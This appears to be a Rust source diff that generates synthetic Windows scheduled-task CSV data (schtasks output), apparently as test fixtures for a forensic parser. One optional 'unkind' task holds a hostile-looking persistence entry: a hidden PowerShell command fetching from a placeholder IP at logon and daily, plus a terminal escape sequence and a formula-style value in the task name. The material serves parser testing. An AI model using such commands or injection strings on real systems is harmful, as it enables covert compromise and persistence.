@@ -1,0 +1,185 @@
+//! `Scheduled Tasks/ScheduledTasks.csv`: what `schtasks /query /v /fo CSV` printed.
+//!
+//! One row for each trigger. The agent drops the headers that schtasks repeats, by splitting at LF
+//! and joining with CR LF: every line but the last ends with CR CR LF, and the last with CR.
+
+use time::{Date, Month, OffsetDateTime};
+
+use super::csv;
+use super::host::{Host, seconds};
+use super::rng::Rng;
+
+/// The member's bytes.
+pub(super) fn csv(host: &Host) -> Vec<u8> {
+    let mut rng = host.passing("tasks");
+    let mut lines = vec![csv::full_line(COLUMNS)];
+    for line in include_str!("../../data/tasks.txt").lines() {
+        lines.extend(parse(host, line).into_iter().flat_map(|task| rows(host, &task, &mut rng)));
+    }
+    if host.is_unkind {
+        lines.extend(rows(host, &unkind(host), &mut rng));
+    }
+    let text: String = lines.join("\r\r\n") + "\r";
+    text.into_bytes()
+}
+
+#[derive(Clone, Debug)]
+struct Task {
+    name: String,
+    author: String,
+    action: String,
+    comment: String,
+    user: String,
+    triggers: Vec<String>,
+}
+
+fn parse(host: &Host, line: &str) -> Option<Task> {
+    let person = host.person();
+    let fill = |text: &str| text.replace("{sid}", &person.sid).replace("{user}", &person.name);
+    let mut cells = line.split('\t').map(fill);
+    let mut next = || cells.next();
+    Some(Task {
+        name: next()?,
+        author: next()?,
+        action: next()?,
+        comment: next()?,
+        user: next()?,
+        triggers: next()?.split(',').map(str::to_owned).collect(),
+    })
+}
+
+fn unkind(host: &Host) -> Task {
+    Task {
+        name: r"\Updater, 'weekly' =1+1".to_owned(),
+        author: format!(r"{}\{}", host.name, host.person().name),
+        action: "powershell.exe -w hidden -c \"& { iwr 'http://203.0.113.66/a' }\" \u{1b}[8m"
+            .to_owned(),
+        comment: "N/A".to_owned(),
+        user: host.person().name.clone(),
+        triggers: vec!["logon".to_owned(), "daily".to_owned()],
+    }
+}
+
+/// A task's rows: alike but for the nine columns of the trigger.
+fn rows(host: &Host, task: &Task, rng: &mut Rng) -> Vec<String> {
+    let is_disabled = rng.chance(15);
+    let is_running = !is_disabled && rng.chance(3);
+    let has_run = is_running || rng.chance(65);
+    let last = if has_run {
+        host.started - seconds(rng.below(600_000))
+    } else {
+        OffsetDateTime::UNIX_EPOCH
+    };
+    let result = match (is_running, has_run) {
+        (true, _) => "267009",
+        (_, false) => "267011",
+        _ if rng.chance(8) => "-2147020576",
+        _ => "0",
+    };
+    let is_timed = task.triggers.iter().any(|trigger| TIMED.contains(&trigger.as_str()));
+    let next = host.started + seconds(rng.range(600, 86_400));
+    let local = |instant| host.region.date_time(host.local(instant));
+    let mut row = vec![
+        host.name.clone(),
+        task.name.clone(),
+        if is_timed && !is_disabled { local(next) } else { NONE.to_owned() },
+        if is_disabled {
+            "Disabled"
+        } else if is_running {
+            "Running"
+        } else {
+            "Ready"
+        }
+        .to_owned(),
+        if task.user == host.person().name { "Interactive only" } else { "Interactive/Background" }
+            .to_owned(),
+        if has_run { local(last) } else { never(host) },
+        result.to_owned(),
+        task.author.clone(),
+        task.action.clone(),
+        NONE.to_owned(),
+        task.comment.clone(),
+        if is_disabled { "Disabled" } else { "Enabled" }.to_owned(),
+        (*rng.of(&["Disabled", "Disabled", IDLE])).to_owned(),
+        (*rng.of(&["", "", BATTERY, "Stop On Battery Mode"])).to_owned(),
+        task.user.clone(),
+        "Disabled".to_owned(),
+        (*rng.of(&["72:00:00", "01:00:00", "02:00:00", "Disabled"])).to_owned(),
+        "Scheduling data is not available in this format.".to_owned(),
+    ];
+    let fixed = row.len();
+    let start = host.local(next - seconds(86_400 * rng.range(2, 900)));
+    let mut lines = Vec::new();
+    for trigger in &task.triggers {
+        row.truncate(fixed);
+        row.extend(columns_of(trigger, &host.region.time(start), &host.region.date(start)));
+        lines.push(csv::full_line(row.iter().map(String::as_str)));
+    }
+    lines
+}
+
+/// Schedule type, start time and date, end date, days, months, and the four of repetition.
+fn columns_of(trigger: &str, time: &str, date: &str) -> [String; 10] {
+    let (kind, days, every) = match trigger {
+        "daily" => ("Daily ", "Every 1 day(s)", "Disabled"),
+        "weekly" => ("Weekly", "SUN", "Disabled"),
+        "hourly" => ("One Time Only, Hourly ", NONE, "6 Hour(s), 0 Minute(s)"),
+        "minute" => ("One Time Only, Minute ", NONE, "0 Hour(s), 15 Minute(s)"),
+        "once" => ("One Time Only", NONE, "Disabled"),
+        "logon" => return untimed("At logon time"),
+        "startup" => return untimed("At system start up"),
+        "idle" => return untimed("At idle time"),
+        "event" => return untimed("When an event occurs"),
+        "demand" => return untimed("On demand only"),
+        _ => return untimed("Undefined"),
+    };
+    let until = if every == "Disabled" { "Disabled" } else { "None" };
+    [kind, time, date, NONE, days, NONE, every, until, "Disabled", "Disabled"].map(str::to_owned)
+}
+
+fn untimed(kind: &str) -> [String; 10] {
+    [kind, NONE, NONE, NONE, NONE, NONE, NONE, NONE, NONE, NONE].map(str::to_owned)
+}
+
+/// What schtasks prints for a task that never ran.
+fn never(host: &Host) -> String {
+    let date = Date::from_calendar_date(1999, Month::November, 30);
+    date.map_or(String::new(), |date| host.region.date_time(date.midnight().assume_utc()))
+}
+
+const NONE: &str = "N/A";
+const IDLE: &str = "Only Start If Idle for  minutes, If Not Idle Retry For  minutes Stop the task if Idle State end";
+const BATTERY: &str = "Stop On Battery Mode, No Start On Batteries";
+const TIMED: [&str; 5] = ["daily", "weekly", "hourly", "minute", "once"];
+
+/// The columns of a real member from an English Windows.
+const COLUMNS: [&str; 28] = [
+    "HostName",
+    "TaskName",
+    "Next Run Time",
+    "Status",
+    "Logon Mode",
+    "Last Run Time",
+    "Last Result",
+    "Author",
+    "Task To Run",
+    "Start In",
+    "Comment",
+    "Scheduled Task State",
+    "Idle Time",
+    "Power Management",
+    "Run As User",
+    "Delete Task If Not Rescheduled",
+    "Stop Task If Runs X Hours and X Mins",
+    "Schedule",
+    "Schedule Type",
+    "Start Time",
+    "Start Date",
+    "End Date",
+    "Days",
+    "Months",
+    "Repeat: Every",
+    "Repeat: Until: Time",
+    "Repeat: Until: Duration",
+    "Repeat: Stop If Still Running",
+];
